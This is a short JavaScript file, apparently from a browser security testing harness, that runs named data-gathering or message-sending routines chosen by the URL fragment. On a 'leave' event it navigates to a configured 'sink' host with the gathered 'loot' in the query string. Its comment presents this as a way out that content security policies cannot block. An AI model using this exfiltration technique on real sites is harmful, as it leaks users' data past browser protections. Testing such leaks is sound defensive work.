/*
 * Performs what the fragment of the address names: a way to get data (`#get=way`) or to send a word (`#send=way`). At the event
 * `leave` it navigates to the sink with all that was found: a navigation is the one way out that no policy closes, so
 * whatever code can read would arrive.
 */
((hostile) => {
  const { settings, loot, ways } = hostile;
  const [kind, way = ''] = location.hash.slice(1).split('=');
  const name = decodeURIComponent(way);
  const run = ways[kind]?.[name];
  hostile.names = { get: Object.keys(ways.get), send: Object.keys(ways.send) };
  if (!run) return;
  const start = async () => {
    try {
      await run(name);
    } catch (error) {
      hostile.error = String(error);
    }
    hostile.done = true;
  };
  // Not before there is a body to add elements to.
  if (document.body) void start();
  else addEventListener('DOMContentLoaded', () => void start());
  document.addEventListener('leave', () => {
    const found = loot.join('\n').slice(-400_000);
    location.href = `${settings.sink}/left?by=${encodeURIComponent(name)}&${encodeURIComponent(found)}`;
  });
})(window.hostile);
